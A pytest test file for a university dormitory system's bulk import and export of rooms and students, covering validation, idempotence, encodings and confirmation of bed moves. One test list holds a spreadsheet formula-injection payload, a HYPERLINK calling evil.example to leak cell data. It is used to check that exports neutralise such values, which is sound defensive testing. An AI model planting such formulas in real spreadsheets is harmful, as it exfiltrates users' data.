"""Bulk import and export: all rows or none, every error named, re-import changes nothing."""
import csv
import io
import re

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from dorms.audit.models import AuditEntry
from dorms.campus.models import Bed, Building, Room
from dorms.core.enums import Gender, GenderPolicy, RoomStatus
from dorms.extensions import db
from dorms.residence import services as residence
from dorms.residence.models import Assignment
from dorms.students.models import Student
from dorms.transfer import exporting
from dorms.transfer import values
from dorms.transfer.importing import ImportRejected, MovesNeedConfirmation, content_token, import_file

ROOMS_CSV = """building,building_name,campus,building_gender,floor,room,capacity,type,gender,accessible,status,bed_type
A1,桃李苑1号楼,main,M,1,101,4,standard,,yes,open,loft
A1,桃李苑1号楼,main,M,1,102,6,economy,,no,open,bunk_lower
B1,芳华苑1号楼,main,F,2,201,4,standard,F,no,closed,
"""

STUDENTS_CSV = """student_number,name,gender,college,major,class,grade,phone,status,building,room,bed
2024001,张伟,男,计算机学院,计算机科学,计科2401,2024,13800000001,在读,A1,101,1
2024002,王芳,F,计算机学院,计算机科学,计科2401,2024,,active,,,
2024003,李强,M,计算机学院,软件工程,软工2401,2024,,active,A1,102,
"""


def _import(kind, text, name="file.csv", encoding="utf-8", **kwargs):
    report = import_file(kind, name, text.encode(encoding), **kwargs)
    db.session.commit()
    return report


def _counts():
    return tuple(db.session.scalar(sa.select(sa.func.count()).select_from(model))
                 for model in (Building, Room, Bed, Student, Assignment))


@pytest.fixture
def rooms(app):
    return _import("rooms", ROOMS_CSV)


def test_rooms_import_creates_buildings_rooms_and_beds(rooms):
    assert (rooms.created, rooms.updated, rooms.unchanged) == (3, 0, 0)
    a1 = db.session.scalar(sa.select(Building).where(Building.code == "A1"))
    assert a1.name == "桃李苑1号楼" and a1.gender_policy == GenderPolicy.MALE
    room = db.session.scalar(sa.select(Room).where(Room.number == "102"))
    assert room.capacity == 6 and room.room_type == "economy" and not room.accessible
    closed = db.session.scalar(sa.select(Room).where(Room.number == "201"))
    assert closed.status == RoomStatus.CLOSED and closed.gender == Gender.FEMALE
    assert db.session.scalar(sa.select(AuditEntry.action)) == "import.rooms"


def test_reimporting_the_same_rooms_changes_nothing(rooms):
    before = _counts()
    again = _import("rooms", ROOMS_CSV)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert _counts() == before


def test_changed_rows_update_by_natural_key(rooms):
    report = _import("rooms", ROOMS_CSV.replace("A1,桃李苑1号楼,main,M,1,102,6", "A1,桃李苑1号楼,main,M,1,102,4"))
    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    room = db.session.scalar(sa.select(Room).where(Room.number == "102"))
    assert room.capacity == 4 and len(room.beds) == 6  # beds 5 and 6 kept, out of use


def test_a_bad_rooms_file_is_rejected_whole_with_every_error(rooms):
    before = _counts()
    bad = ROOMS_CSV + (
        "Z9,,,,1,101,4,,,,,\n"          # unknown building without a name to create it
        "A1,,,,x,103,4,,,,,\n"          # floor not a number
        "A1,,,,1,104,40,,X,maybe,shut,\n"  # capacity out of range, bad gender, accessible, status
        "A1,,,,1,101,4,,,,,\n"          # duplicate of row 2
    )
    with pytest.raises(ImportRejected) as rejected:
        import_file("rooms", "bad.csv", bad.encode())
    db.session.rollback()
    found = {(e.row, e.column) for e in rejected.value.errors}
    assert found == {(5, "building"), (6, "floor"), (7, "capacity"), (7, "gender"), (7, "accessible"),
                     (7, "status"), (8, "room")}
    assert _counts() == before


def test_a_missing_column_is_named(app):
    with pytest.raises(ImportRejected) as rejected:
        import_file("rooms", "x.csv", b"building,room\nA1,101\n")
    # The rows are checked all the same: every problem in one pass.
    assert {(e.row, e.column) for e in rejected.value.errors} == {(1, "floor"), (1, "capacity"), (2, "building")}


def test_students_import_assigns_beds_and_is_idempotent(rooms):
    report = _import("students", STUDENTS_CSV)
    assert (report.created, report.placed) == (3, 2)
    zhang = db.session.scalar(sa.select(Student).where(Student.student_number == "2024001"))
    assert zhang.gender == Gender.MALE and zhang.name == "张伟"
    assert residence.current_assignment(zhang).bed.code == "A1-101-1"
    li = db.session.scalar(sa.select(Student).where(Student.student_number == "2024003"))
    assert residence.current_assignment(li).bed.code == "A1-102-1"  # first free bed of the room

    before = _counts()
    again = _import("students", STUDENTS_CSV)
    assert (again.created, again.updated, again.unchanged, again.placed) == (0, 0, 3, 0)
    assert _counts() == before


def test_students_file_can_swap_two_residents(rooms):
    _import("students", STUDENTS_CSV)
    swapped = STUDENTS_CSV.replace("A1,101,1", "A1,102,1").replace("A1,102,\n", "A1,101,1\n")
    report = _import("students", swapped, moves_confirmed=True)
    assert report.placed == 2
    codes = {s.student_number: residence.current_assignment(s).bed.code
             for s in db.session.scalars(sa.select(Student).where(Student.student_number.in_(["2024001", "2024003"])))}
    assert codes == {"2024001": "A1-102-1", "2024003": "A1-101-1"}


def test_a_bad_students_file_names_every_row_and_writes_nothing(rooms):
    _import("students", STUDENTS_CSV)
    before = _counts()
    bad = STUDENTS_CSV + (
        "2024001,重复,男,,,,,,,,,\n"                # duplicate student number (row 2)
        "2024005,,未知,,,,20x4,,,,,\n"              # missing name, bad gender, bad grade
        "2024006,赵六,女,,,,,,,Q9,101,\n"           # unknown building
        "2024007,孙七,男,,,,,,,A1,999,\n"           # unknown room
        "2024008,周八,女,,,,,,,A1,101,2\n"          # female into a male building
        "2024009,吴九,男,,,,,,,A1,101,1\n"          # bed 1 given twice in the file
    )
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", bad.encode())
    db.session.rollback()
    found = {(e.row, e.column) for e in rejected.value.errors}
    # Row 9's placement is refused too, in the same pass as the other rows' field errors.
    assert found == {(5, "student_number"), (6, "name"), (6, "gender"), (6, "grade"), (7, "building"),
                     (8, "room"), (9, "bed"), (10, "bed")}
    assert _counts() == before


def test_placement_rules_are_checked_per_row(rooms):
    bad = ("student_number,name,gender,building,room,bed\n"
           "2024008,周八,女,A1,101,2\n"     # female into a male building
           "2024009,吴九,男,B1,201,1\n")    # closed room
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", bad.encode())
    db.session.rollback()
    messages = {e.row: e.message for e in rejected.value.errors}
    assert "houses male students" in messages[2]
    assert "is closed" in messages[3]
    assert db.session.scalar(sa.select(sa.func.count(Student.id))) == 0


def test_a_full_room_is_reported_over_capacity(rooms):
    rows = "".join(f"20250{n:02d},学生{n},男,A1,101,\n" for n in range(5))
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "full.csv", ("student_number,name,gender,building,room,bed\n" + rows).encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(6, "room")]
    assert "over capacity" in rejected.value.errors[0].message


def test_lowering_capacity_below_residents_is_refused(rooms):
    _import("students", "student_number,name,gender,building,room,bed\n2024001,张伟,男,A1,101,4\n")
    with pytest.raises(ImportRejected) as rejected:
        import_file("rooms", "r.csv", ROOMS_CSV.replace("main,M,1,101,4", "main,M,1,101,3").encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "capacity")]


def test_gbk_csv_from_chinese_excel_imports(app):
    text = "学号,姓名,性别,学院,班级\r\n2024100,欧阳娜娜,女,外国语学院,英语2401\r\n"
    report = _import("students", text, encoding="gbk")
    assert report.encoding == "gbk" and report.created == 1
    assert db.session.scalar(sa.select(Student.name)) == "欧阳娜娜"


def test_unreadable_bytes_are_refused_with_a_clear_message(app):
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "x.csv", b"student_number,name,gender\n1,\x81\x20\xff,M\n")
    error = rejected.value.errors[0]
    assert error.row == 0 and "neither UTF-8 nor GBK" in error.message and "line 2" in error.message


def test_unknown_columns_are_reported_and_ignored(app):
    report = _import("students", "序号,学号,姓名,性别\n1,2024100,张三,男\n")
    assert report.ignored_columns == ["序号"] and report.created == 1


def test_xlsx_import_and_export_round_trip(rooms):
    _import("students", STUDENTS_CSV)
    before = _counts()
    for kind in ("rooms", "students"):
        data = exporting.export(kind, "xlsx")
        report = import_file(kind, f"{kind}.xlsx", data)
        db.session.commit()
        assert report.created == report.updated == 0, kind
    assert _counts() == before


def test_csv_export_has_a_header_and_every_student(rooms):
    _import("students", STUDENTS_CSV)
    text = exporting.export("students", "csv").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == ",".join(exporting.STUDENT_HEADERS)
    assert lines[0].startswith("student_number,name,gender,college,major,class")
    assert "2024001,张伟,M,计算机学院,计算机科学,计科2401,2024,13800000001,active,no,A1,101,1" in lines
    assert len(lines) == 4


def test_excel_numbers_become_text(app):
    workbook = Workbook()
    workbook.active.append(["student_number", "name", "gender", "grade"])
    workbook.active.append([2024100, "张三", "男", 2024.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = import_file("students", "s.xlsx", buffer.getvalue())
    db.session.commit()
    student = db.session.scalar(sa.select(Student))
    assert report.created == 1 and student.student_number == "2024100" and student.grade == 2024


def test_a_broken_xlsx_is_refused(app):
    with pytest.raises(ImportRejected, match="1 problem\\.") as rejected:
        import_file("rooms", "x.xlsx", b"PK\x03\x04 not really a zip")
    assert "not a readable .xlsx" in rejected.value.errors[0].message


def test_import_page_lists_errors_and_imports(client, login, create_user):
    login(create_user())
    bad = {"kind": "rooms", "file": (io.BytesIO(b"building,floor,room,capacity\nA1,1,101,99\n"), "r.csv")}
    page = client.post("/import", data=bad, content_type="multipart/form-data").get_data(as_text=True)
    assert "import-errors" in page and "capacity" in page
    good = {"kind": "rooms", "file": (io.BytesIO(ROOMS_CSV.encode()), "r.csv")}
    page = client.post("/import", data=good, content_type="multipart/form-data").get_data(as_text=True)
    assert "import-report" in page and "3 created" in page
    assert db.session.scalar(sa.select(sa.func.count(Room.id))) == 3


def test_dry_run_writes_nothing(client, login, create_user):
    login(create_user())
    data = {"kind": "rooms", "dry_run": "y", "file": (io.BytesIO(ROOMS_CSV.encode()), "r.csv")}
    page = client.post("/import", data=data, content_type="multipart/form-data").get_data(as_text=True)
    assert "nothing was written" in page
    assert db.session.scalar(sa.select(sa.func.count(Room.id))) == 0


def test_export_downloads(client, login, create_user, rooms):
    login(create_user())
    response = client.get("/export/rooms.xlsx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[1]] == exporting.ROOM_HEADERS
    assert sheet.max_row == 4
    assert client.get("/export/secrets.csv").status_code == 404


def test_columns_missing_from_the_file_leave_stored_values_alone(rooms):
    _import("students", STUDENTS_CSV)
    report = _import("rooms", "building,floor,room,capacity\nB1,2,201,4\n")
    assert report.unchanged == 1
    closed = db.session.scalar(sa.select(Room).where(Room.number == "201"))
    assert closed.status == RoomStatus.CLOSED and closed.gender == Gender.FEMALE
    report = _import("students", "student_number,name,gender\n2024001,张伟,男\n")
    assert report.unchanged == 1
    zhang = db.session.scalar(sa.select(Student).where(Student.student_number == "2024001"))
    assert (zhang.class_name, zhang.phone, zhang.grade) == ("计科2401", "13800000001", 2024)


def test_a_new_building_is_named_once_per_file(app):
    report = _import("rooms", "building,building_name,floor,room,capacity\nN1,新楼,1,101,4\nN1,,1,102,4\n")
    assert report.created == 2


def test_a_building_cannot_switch_gender_under_its_residents(rooms):
    _import("students", STUDENTS_CSV)  # men in A1 (a male building)
    flipped = "building,building_gender,floor,room,capacity\nA1,F,1,101,4\n"
    with pytest.raises(ImportRejected) as rejected:
        import_file("rooms", "r.csv", flipped.encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "building_gender")]
    assert "101" in rejected.value.errors[0].message and "102" in rejected.value.errors[0].message


def test_a_room_cannot_lose_access_under_a_resident_who_needs_it(rooms):
    _import("students", "student_number,name,gender,needs_accessible,building,room,bed\n2024001,张伟,男,是,A1,101,1\n")
    with pytest.raises(ImportRejected) as rejected:
        import_file("rooms", "r.csv", b"building,floor,room,capacity,accessible\nA1,1,101,4,no\n")
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "accessible")]


def test_residents_who_stay_are_checked_against_their_room(rooms):
    _import("students", STUDENTS_CSV)
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "s.csv", "student_number,name,gender\n2024001,张伟,女\n".encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "gender")]
    assert db.session.scalar(sa.select(Student.gender).where(Student.student_number == "2024001")) == Gender.MALE


def test_inactive_residents_keep_their_bed_and_are_listed(rooms):
    _import("students", STUDENTS_CSV)
    report = _import("students", "student_number,name,gender,status\n2024001,张伟,男,毕业\n")
    assert report.inactive_residents == ["2024001 张伟 (A1-101-1)"]
    zhang = db.session.scalar(sa.select(Student).where(Student.student_number == "2024001"))
    assert residence.current_assignment(zhang) is not None


def test_the_import_is_the_callers_transaction(app):
    """Nothing is committed before the caller commits: a rollback undoes the whole import."""
    import_file("rooms", "r.csv", ROOMS_CSV.encode())
    import_file("students", "s.csv", STUDENTS_CSV.encode())
    db.session.rollback()
    assert _counts() == (0, 0, 0, 0, 0)
    assert db.session.scalar(sa.select(sa.func.count(AuditEntry.id))) == 0


FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"details\")", "+86 138 0013 8000", "-1",
                "@SUM(A1)", "'=already quoted", "''+two quotes", "'plain", "#N/A"]


@pytest.mark.backends("sqlite", "postgresql")
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_like_names_and_phones_survive_export_and_import_unchanged(rooms, file_format):
    _import("students", STUDENTS_CSV)
    for number, text in zip(("2024001", "2024002", "2024003"), FORMULA_LIKE[:3]):
        db.session.scalar(sa.select(Student).where(Student.student_number == number)).name = text
    db.session.scalar(sa.select(Student).where(Student.student_number == "2024002")).phone = "+86 138 0013 8000"
    for number, text in enumerate(FORMULA_LIKE[3:], start=2024101):
        db.session.add(Student(student_number=str(number), name=text, gender=Gender.MALE, phone=text))
    db.session.commit()
    before = {s.student_number: (s.name, s.phone) for s in db.session.scalars(sa.select(Student))}
    data = exporting.export("students", file_format)
    if file_format == "csv":
        first_student = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
        assert first_student[1] == "'" + FORMULA_LIKE[0]
    report = import_file("students", f"students.{file_format}", data)
    db.session.commit()
    assert report.created == report.updated == 0
    assert {s.student_number: (s.name, s.phone) for s in db.session.scalars(sa.select(Student))} == before


# --- moves need a confirmation; every problem in one pass; headers as the file writes them ----------------------

def test_reimporting_an_older_export_lists_the_moves_and_waits_for_confirmation(rooms):
    _import("students", STUDENTS_CSV)
    older = exporting.export("students", "csv")
    zhang = db.session.scalar(sa.select(Student).where(Student.student_number == "2024001"))
    residence.move(zhang, db.session.scalar(sa.select(Bed).join(Room).where(Room.number == "102", Bed.label == "3")),
                   reason="asked")
    db.session.commit()
    before = _counts()

    preview = import_file("students", "older.csv", older, dry_run=True)
    db.session.rollback()
    assert [(p.student, p.from_bed, p.to_bed) for p in preview.resident_moves] == [
        ("2024001 张伟", "A1-102-3", "A1-101-1")]
    assert residence.current_assignment(zhang).bed.code == "A1-102-3"

    with pytest.raises(MovesNeedConfirmation) as unconfirmed:
        import_file("students", "older.csv", older)
    db.session.rollback()
    assert [p.student for p in unconfirmed.value.report.resident_moves] == ["2024001 张伟"]
    assert residence.current_assignment(zhang).bed.code == "A1-102-3" and _counts() == before
    # A token of other content confirms nothing.
    with pytest.raises(MovesNeedConfirmation):
        import_file("students", "older.csv", older, moves_confirmed=content_token("students", older + b"\n"))
    db.session.rollback()

    report = import_file("students", "older.csv", older, moves_confirmed=preview.token)
    db.session.commit()
    assert report.placed == 1 and residence.current_assignment(zhang).bed.code == "A1-101-1"


def test_a_confirmation_binds_the_moves_previewed_not_only_the_file(rooms):
    """Beds changed between the preview and the confirmation: the same file now moves someone else too, and
    the preview's token confirms nothing (the office agreed to the moves it saw, not to any)."""
    _import("students", STUDENTS_CSV)
    older = exporting.export("students", "csv")
    zhang, li = (db.session.scalar(sa.select(Student).where(Student.student_number == number))
                 for number in ("2024001", "2024003"))
    bed = {label: db.session.scalar(sa.select(Bed).join(Room).where(Room.number == "102", Bed.label == label))
           for label in ("2", "3")}
    residence.move(zhang, bed["3"], reason="asked")
    db.session.commit()
    preview = import_file("students", "older.csv", older, dry_run=True)
    db.session.rollback()
    assert [p.student for p in preview.resident_moves] == ["2024001 张伟"]

    residence.move(li, bed["2"], reason="asked")  # meanwhile, at the desk
    db.session.commit()
    with pytest.raises(MovesNeedConfirmation) as unconfirmed:
        import_file("students", "older.csv", older, moves_confirmed=preview.token)
    db.session.rollback()
    assert sorted(p.student for p in unconfirmed.value.report.resident_moves) == ["2024001 张伟", "2024003 李强"]
    assert residence.current_assignment(li).bed.code == "A1-102-2"


def test_the_dry_run_lists_who_would_be_assigned_and_who_would_move(rooms):
    report = import_file("students", "s.csv", STUDENTS_CSV.encode(), dry_run=True)
    db.session.rollback()
    assert [(p.student, p.to_bed) for p in report.assigned] == [("2024001 张伟", "A1-101-1"),
                                                                ("2024003 李强", "A1-102-1")]
    assert report.resident_moves == [] and _counts()[3] == 0


def test_the_import_page_previews_moves_and_imports_them_only_when_confirmed(rooms, client, login, create_user):
    _import("students", STUDENTS_CSV)
    swapped = STUDENTS_CSV.replace("A1,101,1", "A1,102,1").replace("A1,102,\n", "A1,101,1\n").encode()
    login(create_user())

    def post(data, **extra):
        return client.post("/import", data={"kind": "students", "file": (io.BytesIO(data), "s.csv"), **extra},
                           content_type="multipart/form-data").get_data(as_text=True)

    page = post(swapped)
    assert "import-confirm" in page and "A1-101-1" in page and "A1-102-1" in page and "2024003 李强" in page
    token = re.search(r'name="confirm" value="([0-9a-f]+)"', page).group(1)
    zhang = db.session.scalar(sa.select(Student).where(Student.student_number == "2024001"))
    assert residence.current_assignment(zhang).bed.code == "A1-101-1"
    # Another file under the previewed one's token: not imported.
    other = swapped.replace("张伟".encode(), "张伟伟".encode())
    page = post(other, confirm=token)
    assert "changed since the preview" in page
    db.session.expire_all()
    assert residence.current_assignment(zhang).bed.code == "A1-101-1"
    page = post(swapped, confirm=token)
    assert "import-report" in page
    db.session.expire_all()
    assert residence.current_assignment(zhang).bed.code == "A1-102-1"


def test_every_problem_is_listed_in_one_pass(rooms):
    """A field error on one row and a placement refused on another: both at once, not one after the other."""
    bad = ("student_number,name,gender,grade,building,room,bed\n"
           "2024010,甲,男,20x4,A1,101,1\n"      # a bad year
           "2024011,乙,女,2024,A1,101,2\n")     # a woman into a men's building
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", bad.encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "grade"), (3, "bed")]
    assert _counts()[3] == 0


def test_problems_name_columns_as_the_file_writes_them(rooms):
    bad = "学号,姓名,性别,年级,楼栋,房间\n2024010,甲,X,20x4,A1,\n"
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", bad.encode())
    db.session.rollback()
    errors = {(e.row, e.column): e.message for e in rejected.value.errors}
    assert set(errors) == {(2, "性别"), (2, "年级"), (2, "房间")}
    assert "楼栋" in errors[(2, "房间")] and "room" not in errors[(2, "房间")]
    # A column the file lacks, in the file's language.
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", "学号,姓名\n2024010,甲\n".encode())
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(1, "性别")]
    # English headers, as written (any case).
    with pytest.raises(ImportRejected) as rejected:
        import_file("students", "bad.csv", b"Student_Number,Name,Gender\n2024010,A,X\n")
    db.session.rollback()
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "Gender")]


def test_our_own_phone_label_is_a_phone_column(app):
    _import("students", "学号,姓名,性别,联系电话\n2024010,甲,男,13800000000\n")
    assert db.session.scalar(sa.select(Student.phone)) == "13800000000"


@pytest.mark.parametrize("kind", ["rooms", "students"])
def test_every_label_we_show_for_a_column_is_accepted_as_its_header(app, kind):
    from flask_babel import force_locale

    aliases = values.alias_map(kind)
    for language in ("en", "zh_Hans_CN"):
        with force_locale(language):
            for column, label in values.LABELS[kind].items():
                assert aliases.get(str(label).lower()) == column, (language, str(label))
    assert aliases["联系电话"] == "phone" if kind == "students" else True

def test_a_download_read_in_chinese_has_chinese_columns_and_words_and_imports_again_unchanged(client, login,
                                                                                                create_user, rooms):
    _import("students", STUDENTS_CSV)
    login(create_user())
    client.post("/language/zh_CN")
    for kind, first_row_words in (("rooms", ["楼栋", "楼栋名称"]), ("students", ["学号", "姓名", "性别"])):
        text = client.get(f"/export/{kind}.csv").data.decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(text)))
        assert table[0][:len(first_row_words)] == first_row_words
        assert not {"M", "F", "yes", "no", "open", "closed", "active"} & {cell for row in table[1:] for cell in row}
        report = _import(kind, text)
        assert (report.created, report.updated) == (0, 0), kind  # the same campus, read from Chinese
    client.post("/language/en")
    english = client.get("/export/students.csv").data.decode("utf-8-sig")
    assert english.splitlines()[0] == ",".join(exporting.STUDENT_HEADERS)


def test_the_command_line_exports_machine_words_unless_asked_for_chinese(app, rooms):
    runner = app.test_cli_runner()
    plain = runner.invoke(args=["export", "rooms"]).stdout_bytes.decode("utf-8-sig")
    assert plain.splitlines()[0] == ",".join(exporting.ROOM_HEADERS) and ",open," in plain
    chinese = runner.invoke(args=["export", "rooms", "--language", "zh"]).stdout_bytes.decode("utf-8-sig")
    assert chinese.splitlines()[0].startswith("楼栋,楼栋名称,校区,楼栋性别,楼层,房间,床位数") and "开放" in chinese
    assert "上床下桌" in chinese and "是" in chinese
